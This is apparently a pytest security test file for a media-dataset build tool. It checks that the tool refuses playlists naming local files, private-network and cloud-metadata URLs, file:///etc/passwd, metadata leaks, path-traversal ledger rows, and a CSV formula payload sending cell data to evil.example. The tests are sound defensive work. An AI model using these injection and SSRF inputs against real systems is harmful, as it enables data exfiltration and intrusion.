"""`vaar build` against an attacker's source list and server (issue 10, build inputs).

Every test plays the attacker with real files on the loopback server and the real yt-dlp and
ffmpeg: playlists that name local files, URLs and redirects into the private network, source
metadata that would leak into published media.
"""

from __future__ import annotations

import csv as csvmod
import json
import sqlite3
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from tests.fixtures.http_server import FaultyServer
from tests.fixtures.media import ffmpeg, make_source
from vaar.core.errors import MediaError
from vaar.curation.build.download import DownloadConfig
from vaar.curation.build.media import MediaConfig, trim_normalise
from vaar.curation.build.pipeline import BuildConfig, run_build
from vaar.curation.netguard import NetworkPolicy, url_problem

HEADER = "clip_id,url,start,end,label,source_id,license,notes\n"
OPEN = DownloadConfig(retries=0, backoff_s=0.05, allow_private_network=True)
FAST = BuildConfig(workers=1, download=OPEN, do_publish=False)


def sources_csv(path: Path, rows: list[tuple[str, str, float, float, str]]) -> Path:
    lines = [HEADER] + [f"{c},{u},{s},{e},{lab},,CC-BY-4.0,\n" for c, u, s, e, lab in rows]
    path.write_text("".join(lines), encoding="utf-8")
    return path


def manifest(out: Path) -> dict[str, dict]:
    return {r["clip_id"]: r for r in pq.read_table(out / "manifest.parquet").to_pylist()}


def secret_ts(folder: Path) -> Path:
    """A local file of the build machine that the attacker wants published."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "secret.ts"
    ffmpeg("-f", "lavfi", "-i", "testsrc2=s=160x120:r=25", "-f", "lavfi", "-i", "sine=f=440",
           "-t", "4", "-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac", "-f", "mpegts", str(path))  # fmt: skip
    return path


def hls_playlist(path: Path, target: str) -> Path:
    path.write_text(f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:4.0,\n{target}\n#EXT-X-ENDLIST\n")
    return path


# ----------------------------------------------------------------------------- playlists


@pytest.mark.parametrize("mode", ["auto", "section"])
def test_hls_playlist_served_as_mp4_never_publishes_a_local_file(
    tmp_path: Path, server: FaultyServer, mode: str
) -> None:
    secret = secret_ts(tmp_path / "home")
    hls_playlist(server.root / "clip.mp4", secret.as_uri())  # served as Content-Type video/mp4
    csv = sources_csv(tmp_path / "s.csv", [("leak", server.url("clip.mp4"), 0.5, 2.5, "crash")])
    out = tmp_path / "out"
    cfg = replace(FAST, download=replace(OPEN, mode=mode))  # type: ignore[arg-type]
    run_build([csv], out, cfg)
    row = manifest(out)["leak"]
    assert row["status"] == "failed", row
    assert row["stage"] == "download"
    if mode == "auto":
        assert "HLS playlist" in row["error"]
    assert not list(out.glob("clips/**/*.mp4")) and not list(out.glob("audio/**/*.flac"))


def test_trim_refuses_playlists_even_without_the_download_check(tmp_path: Path) -> None:
    """What a worker (local or Ray) runs: sniff plus ffmpeg's format and protocol whitelists."""
    secret = secret_ts(tmp_path / "home")
    playlist = hls_playlist(tmp_path / "full.mp4", secret.as_uri())
    with pytest.raises(MediaError, match="HLS playlist"):
        trim_normalise(playlist, 0.5, 2.0, tmp_path / "c.mp4", tmp_path / "c.flac", MediaConfig(), True)
    # the ffmpeg command line alone (no sniff) refuses the hls demuxer too: a BOM-free variant
    # that the sniff would not catch is still not opened
    from vaar.curation.build.media import run_tool, trim_commands

    cmd = trim_commands(playlist, 0.5, 2.0, tmp_path / "c.mp4", tmp_path / "c.flac", MediaConfig(), True)[0]
    proc = run_tool(cmd)
    assert proc.returncode != 0 and not (tmp_path / "c.mp4").exists()
    assert b"whitelist" in proc.stderr or b"Invalid data" in proc.stderr


def test_process_clip_carries_the_restriction_to_the_worker(tmp_path: Path) -> None:
    """The per-clip function that Ray ships to other nodes refuses a playlist by itself."""
    from vaar.core.contracts.source_list import SourceRow
    from vaar.curation.build.pipeline import _Task, process_clip
    from vaar.curation.build.quality import QCConfig

    secret = secret_ts(tmp_path / "home")
    (tmp_path / "cache").mkdir()
    playlist = hls_playlist(tmp_path / "cache" / "full.mp4", secret.as_uri())
    row = SourceRow("leak", "http://example.org/clip.mp4", 0.5, 2.5, "crash", "s", None, None, "s.csv", 2)
    task = _Task(row, str(playlist), 0.0, True, {}, str(tmp_path / "out"), MediaConfig(), QCConfig(), {})
    result, fp = process_clip(task)
    assert result["status"] == "failed" and "playlist" in result["error"] and fp is None
    assert not list((tmp_path / "out").rglob("*.mp4"))


@pytest.mark.slow
def test_a_ray_task_refuses_a_playlist(tmp_path: Path, ray_cluster: str) -> None:
    """The same per-clip task on a Ray worker: the limits travel in its MediaConfig argument."""
    from vaar.core.contracts.source_list import SourceRow
    from vaar.curation.build.backends import RayExecutor
    from vaar.curation.build.pipeline import _Task, process_clip
    from vaar.curation.build.quality import QCConfig

    secret = secret_ts(tmp_path / "home")
    playlist = hls_playlist(tmp_path / "full.mp4", secret.as_uri())
    row = SourceRow("leak", "http://example.org/clip.mp4", 0.5, 2.5, "crash", "s", None, None, "s.csv", 2)
    task = _Task(row, str(playlist), 0.0, True, {}, str(tmp_path / "out"), MediaConfig(), QCConfig(), {})
    pool = RayExecutor(max_retries=0)
    try:
        result, fp = pool.submit(process_clip, task).result(timeout=300)
    finally:
        pool.shutdown()
    assert result["status"] == "failed" and "playlist" in result["error"] and fp is None
    assert not list((tmp_path / "out").rglob("*.mp4"))


def test_ffmpeg_run_by_ytdlp_on_downloads_refuses_playlists(tmp_path: Path) -> None:
    """Separate video and audio formats are merged by yt-dlp's ffmpeg before vaar sees the file."""
    from yt_dlp.postprocessor import FFmpegMergerPP
    from yt_dlp.utils import PostProcessingError

    from vaar.curation.build.download import _ydl

    secret = secret_ts(tmp_path / "home")
    video = hls_playlist(tmp_path / "v.mp4", secret.as_uri())
    audio = tmp_path / "a.m4a"
    ffmpeg("-f", "lavfi", "-i", "sine", "-t", "2", "-c:a", "aac", str(audio))
    fmts = [{"vcodec": "h264", "acodec": "none", "protocol": "https", "filepath": str(video)},
            {"vcodec": "none", "acodec": "aac", "protocol": "https", "filepath": str(audio)}]  # fmt: skip
    info = {"id": "x", "ext": "mp4", "filepath": str(tmp_path / "out.mp4"), "requested_formats": fmts,
            "__files_to_merge": [str(video), str(audio)]}  # fmt: skip
    with pytest.raises(PostProcessingError):
        FFmpegMergerPP(_ydl(OPEN)).run(info)
    assert not (tmp_path / "out.mp4").exists()


# ----------------------------------------------------------------------------- private network


def test_loopback_source_is_refused_without_the_flag(tmp_path: Path, server: FaultyServer) -> None:
    make_source(server.root / "v.mp4", 4.0)
    csv = sources_csv(tmp_path / "s.csv", [("c", server.url("v.mp4"), 0.5, 2.5, "crash")])
    run_build([csv], tmp_path / "closed", replace(FAST, download=replace(OPEN, allow_private_network=False)))
    row = manifest(tmp_path / "closed")["c"]
    assert row["status"] == "failed" and "non-public address 127.0.0.1" in row["error"]
    assert "--allow-private-network" in row["error"]
    assert server.requests["v.mp4"] == 0  # not a single request reached the server
    run_build([csv], tmp_path / "open", FAST)
    assert manifest(tmp_path / "open")["c"]["status"] == "ok"


def test_cli_refuses_loopback_and_the_flag_allows_it(tmp_path: Path, server: FaultyServer) -> None:
    make_source(server.root / "v.mp4", 4.0)
    csv = sources_csv(tmp_path / "s.csv", [("c", server.url("v.mp4"), 0.5, 2.5, "crash")])
    base = [sys.executable, "-m", "vaar.cli", "build", str(csv), "--workers", "1"]
    subprocess.run([*base, "--out", str(tmp_path / "a")], capture_output=True, check=False)
    assert manifest(tmp_path / "a")["c"]["status"] == "failed"
    subprocess.run([*base, "--out", str(tmp_path / "b"), "--allow-private-network"], capture_output=True, check=False)
    assert manifest(tmp_path / "b")["c"]["status"] == "ok"


@pytest.mark.parametrize(
    ("url", "needle"),
    [
        ("http://127.0.0.1/x.mp4", "127.0.0.1"),
        ("http://localhost/x.mp4", "non-public"),
        ("http://169.254.169.254/latest/meta-data", "169.254.169.254"),
        ("http://10.1.2.3/x.mp4", "10.1.2.3"),
        ("http://[::1]/x.mp4", "::1"),
        ("http://[::ffff:192.168.0.1]/x.mp4", "non-public"),
        ("http://0.0.0.0/x.mp4", "0.0.0.0"),
        ("file:///etc/passwd", "scheme 'file'"),
        ("data:video/mp4;base64,AAAA", "scheme 'data'"),
        ("ftp://example.org/x.mp4", "scheme 'ftp'"),
    ],
)
def test_url_policy(url: str, needle: str) -> None:
    problem = url_problem(url)
    assert problem is not None and needle in problem
    if url.startswith("http"):
        assert url_problem(url, NetworkPolicy(allow_private=True)) is None
    assert url_problem("http://93.184.215.14/x.mp4") is None


def test_redirect_into_the_private_network_is_refused(tmp_path: Path, server: FaultyServer) -> None:
    """Only 127.0.0.1 is exempt here (it stands for the public web); 127.0.0.2 stands for an
    internal host. A redirect, and a page whose video points there, must not be followed."""
    from tests.fixtures.http_server import FaultyServer as Server

    inner_root = tmp_path / "inner"
    inner_root.mkdir()
    make_source(inner_root / "internal.mp4", 4.0)
    with Server(inner_root, host="127.0.0.2") as inner:
        server.redirects["go.mp4"] = inner.url("internal.mp4")
        (server.root / "page.html").write_text(
            f'<html><head><title>p</title></head><body><video src="{inner.url("internal.mp4")}"></video></body></html>'
        )
        make_source(server.root / "fine.mp4", 4.0)
        csv = sources_csv(
            tmp_path / "s.csv",
            [("redir", server.url("go.mp4"), 0.5, 2.5, "crash"), ("page", server.url("page.html"), 0.5, 2.5, "crash"),
             ("fine", server.url("fine.mp4"), 0.5, 2.5, "crash")],
        )  # fmt: skip
        dl = replace(OPEN, allow_private_network=False, exempt_networks=("127.0.0.1/32",))
        run_build([csv], tmp_path / "out", replace(FAST, download=dl))
        m = manifest(tmp_path / "out")
        assert m["fine"]["status"] == "ok", m["fine"]["error"]
        for cid in ("redir", "page"):
            assert m[cid]["status"] == "failed" and "127.0.0.2" in m[cid]["error"], m[cid]
        assert inner.bytes_sent["internal.mp4"] == 0
        assert sum(inner.requests.values()) == 0, inner.requests  # not even a HEAD reached it


def test_page_pointing_at_a_local_file_is_refused(tmp_path: Path, server: FaultyServer) -> None:
    secret = tmp_path / "home" / "secret.mp4"
    secret.parent.mkdir()
    make_source(secret, 4.0)
    (server.root / "page.html").write_text(
        f'<html><head><title>p</title></head><body><video src="{secret.as_uri()}"></video></body></html>'
    )
    csv = sources_csv(tmp_path / "s.csv", [("page", server.url("page.html"), 0.5, 2.5, "crash")])
    run_build([csv], tmp_path / "out", FAST)
    row = manifest(tmp_path / "out")["page"]
    assert row["status"] == "failed", row
    assert not list((tmp_path / "out").glob("clips/**/*.mp4"))


# ----------------------------------------------------------------------------- bytes (issue 14)


def test_direct_file_is_fetched_once(tmp_path: Path, server: FaultyServer) -> None:
    """The type probe is a HEAD: the body crosses the wire once (≤ 1.05× the file)."""
    make_source(server.root / "big.mp4", 12.0, size="320x240")
    size = (server.root / "big.mp4").stat().st_size
    csv = sources_csv(tmp_path / "s.csv", [("c", server.url("big.mp4"), 0.5, 2.5, "crash")])
    run_build([csv], tmp_path / "out", FAST)
    assert manifest(tmp_path / "out")["c"]["status"] == "ok"
    assert server.methods[("big.mp4", "HEAD")] == 1 and server.methods[("big.mp4", "GET")] == 1
    assert server.bytes_sent["big.mp4"] <= 1.05 * size, (server.bytes_sent["big.mp4"], size)


# ----------------------------------------------------------------------------- metadata


def tagged_source(path: Path, work: Path) -> Path:
    """A Matroska source whose tags name the class, with chapters, a subtitle and an attachment."""
    plain = make_source(work / "plain.mp4", 4.0)
    meta = work / "meta.txt"
    meta.write_text(
        ";FFMETADATA1\ntitle=LEAK-title-explosion\ncomment=LEAK-comment-label-is-explosion\n"
        "artist=LEAK-artist\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=2000\ntitle=LEAK-chapter\n"
    )
    srt = work / "s.srt"
    srt.write_text("1\n00:00:00,000 --> 00:00:03,000\nLEAK-subtitle\n")
    note = work / "note.txt"
    note.write_text("LEAK-attachment")
    ffmpeg("-i", str(plain), "-i", str(meta), "-i", str(srt), "-map", "0", "-map", "2",
           "-map_metadata", "1", "-map_chapters", "1", "-metadata:s:a:0", "title=LEAK-stream-title",
           "-attach", str(note), "-metadata:s:t", "mimetype=text/plain",
           "-c:v", "copy", "-c:a", "copy", "-c:s", "srt", str(path))  # fmt: skip
    return path


def ffprobe_all(path: Path) -> str:
    proc = subprocess.run(
        ["ffprobe", "-v", "error", "-print_format", "json", "-show_format", "-show_streams", "-show_chapters",
         str(path)], capture_output=True, check=True,
    )  # fmt: skip
    return proc.stdout.decode()


@pytest.mark.parametrize("fix", [False, True])
def test_source_metadata_is_not_published(tmp_path: Path, server: FaultyServer, fix: bool) -> None:
    work = tmp_path / "work"
    work.mkdir()
    src = tagged_source(server.root / "tagged.mkv", work)
    assert "LEAK-title" in ffprobe_all(src) and "LEAK-chapter" in ffprobe_all(src)  # the attack is real
    csv = sources_csv(tmp_path / "s.csv", [("c", server.url("tagged.mkv"), 0.5, 2.5, "crash")])
    out = tmp_path / "out"
    cfg = FAST
    if fix:  # the sync fix re-mux must not bring anything back: force it with a zero tolerance
        from vaar.curation.build.quality import QCConfig

        cfg = replace(FAST, qc=replace(QCConfig(), out_of_sync="fix", tolerance_ms=0.0))
    run_build([csv], out, cfg)
    row = manifest(out)["c"]
    assert row["status"] == "ok", row["error"]
    if fix:
        assert row["av_offset_ms_before_fix"] is not None, row  # the re-mux did run
    for rel in (row["video_path"], row["audio_path"]):
        facts = ffprobe_all(out / rel)
        assert "LEAK" not in facts, facts
        data = json.loads(facts)
        assert not data.get("chapters")
        assert {s["codec_type"] for s in data["streams"]} <= {"video", "audio"}


# ----------------------------------------------------------------------------- ledger


def test_duplicate_clip_id_keeps_the_first_ok_row_and_both_rows_are_in_the_manifest(
    tmp_path: Path, server: FaultyServer
) -> None:
    make_source(server.root / "v.mp4", 6.0)
    make_source(server.root / "w.mp4", 6.0, variant=5)
    csv = sources_csv(
        tmp_path / "s.csv", [("x", server.url("v.mp4"), 0.5, 2.5, "crash"), ("x", server.url("w.mp4"), 3.0, 5.0, "crash")]
    )
    out = tmp_path / "out"
    for _ in range(2):  # a rerun changes nothing
        report = run_build([csv], out, FAST)
        m = manifest(out)
        assert len(m) == 2, m.keys()
        assert m["x"]["status"] == "ok" and m["x"]["url"] == server.url("v.mp4") and m["x"]["start"] == 0.5
        dup = m["invalid:s.csv:3"]
        assert dup["status"] == "invalid" and dup["url"] == server.url("w.mp4")
        assert f"duplicate clip_id 'x', first at {csv}:2" in dup["error"]
        assert report.counts == {"ok": 1, "invalid": 1}
    assert server.requests["w.mp4"] == 0


def test_another_list_into_the_same_out_keeps_rows_and_prune_drops_them(
    tmp_path: Path, server: FaultyServer
) -> None:
    make_source(server.root / "a.mp4", 4.0)
    make_source(server.root / "b.mp4", 4.0, variant=5)
    list_a = sources_csv(tmp_path / "a.csv", [("a1", server.url("a.mp4"), 0.5, 2.5, "crash")])
    list_b = sources_csv(tmp_path / "b.csv", [("b1", server.url("b.mp4"), 0.5, 2.5, "crash")])
    out = tmp_path / "out"
    run_build([list_a], out, FAST)
    a_video = out / manifest(out)["a1"]["video_path"]
    report = run_build([list_b], out, FAST)
    assert set(manifest(out)) == {"b1"} and report.counts == {"ok": 1}  # the manifest: these lists
    with sqlite3.connect(out / "ledger.sqlite") as db:  # the ledger: everything
        assert {r[0] for r in db.execute("SELECT clip_id FROM clips")} == {"a1", "b1"}
    assert a_video.is_file()
    # building list A again reuses its row: nothing is fetched
    server.requests.clear()
    assert run_build([list_a], out, FAST).processed == 0 and server.requests["a.mp4"] == 0
    # --prune (CLI): drop a1's row and media, say how many
    proc = subprocess.run(
        [sys.executable, "-m", "vaar.cli", "build", str(list_b), "--out", str(out), "--workers", "1",
         "--allow-private-network", "--prune"], capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "pruned 1 ledger row" in proc.stdout, proc.stdout + proc.stderr
    with sqlite3.connect(out / "ledger.sqlite") as db:
        assert {r[0] for r in db.execute("SELECT clip_id FROM clips")} == {"b1"}
    assert not a_video.exists() and (out / manifest(out)["b1"]["video_path"]).is_file()


# ----------------------------------------------------------------------------- CSV injection

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"click me")'


def test_formula_source_id_is_refused_and_notes_never_start_a_formula_in_csv(
    tmp_path: Path, server: FaultyServer
) -> None:
    rows = []
    for label in ("crash", "explosion"):
        for k in range(3):
            name = f"{label}{k}.mp4"
            make_source(server.root / name, 4.0, variant=k + (3 if label == "crash" else 7))
            rows.append((f"{label}-{k}", server.url(name), 0.5, 2.5, label))
    body = [HEADER]
    q = '"' + FORMULA.replace('"', '""') + '"'
    for c, u, s, e, lab in rows:
        body.append(f"{c},{u},{s},{e},{lab},,CC-BY-4.0,{q}\n")  # notes: a formula
    body.append(f"evil,{rows[0][1]},0.5,2.5,crash,{q},CC-BY-4.0,\n")  # source_id: a formula
    csv = tmp_path / "s.csv"
    csv.write_text("".join(body), encoding="utf-8")
    out = tmp_path / "out"
    private = tmp_path / "host" / "labels.csv"
    from vaar.curation.publish.folder import PublishConfig

    secret = tmp_path / "host" / "secret"
    secret.parent.mkdir()
    secret.write_text("a host secret of at least sixteen bytes")
    pub = PublishConfig(private_test_labels=private, host_secret_file=secret)
    run_build([csv], out, replace(FAST, do_publish=True, publish=pub))
    m = manifest(out)
    assert m["evil"]["status"] == "invalid" and "unsafe source_id" in m["evil"]["error"]
    assert m["crash-0"]["status"] == "ok" and m["crash-0"]["notes"] == FORMULA  # kept verbatim in Parquet
    written = [*out.glob("dataset/splits/*.csv"), private]
    assert len(written) >= 3
    for path in written:
        for line in csvmod.reader(path.read_text(encoding="utf-8").splitlines()):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), (path, line)


def test_csv_helper_escapes_free_text_but_not_numbers(tmp_path: Path) -> None:
    from vaar.core.csvsafe import csv_bytes
    from vaar.curation.split import SplitItem, render_split_files

    data = csv_bytes(["a", "b", "c"], [[FORMULA, -0.5, "+1"], ["@x", "plain", "\tcmd"]]).decode()
    assert list(csvmod.reader(data.splitlines())) == [
        ["a", "b", "c"], ["'" + FORMULA, "-0.5", "'+1"], ["'@x", "plain", "'\tcmd"],
    ]  # fmt: skip
    # a manifest written before source ids were checked: the split files still carry no formula
    items = [SplitItem(f"c{i}", "crash", FORMULA if i == 0 else None) for i in range(3)]
    files = render_split_files(items, {it.clip_id: "train" for it in items})
    text = files["train.csv"].decode()
    assert "'=HYPERLINK" in text and '\n"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


def test_prune_never_deletes_outside_the_build_folder(tmp_path: Path) -> None:
    """A tampered ledger (rows naming ``..``, absolute or symlinked paths) cannot make --prune
    delete files outside --out."""
    from vaar.curation.build.ledger import Ledger
    from vaar.curation.build.pipeline import _prune

    out = tmp_path / "out"
    (out / "clips").mkdir(parents=True)
    victims = [tmp_path / "victim.txt", tmp_path / "abs.txt", tmp_path / "linked.txt"]
    for v in victims:
        v.write_text("keep me")
    (out / "clips" / "link.mp4").symlink_to(victims[2])
    inside = out / "clips" / "own.mp4"
    inside.write_bytes(b"x")
    with Ledger(out / "ledger.sqlite") as ledger:
        for cid, video in (("up", "../victim.txt"), ("abs", str(victims[1])), ("link", "clips/link.mp4"),
                           ("own", "clips/own.mp4")):  # fmt: skip
            ledger.put({"clip_id": cid, "status": "ok", "video_path": video, "audio_path": None})
        assert len(_prune(ledger, set(), out)) == 4
    assert all(v.read_text() == "keep me" for v in victims)
    assert not inside.exists()  # its own media inside --out does go
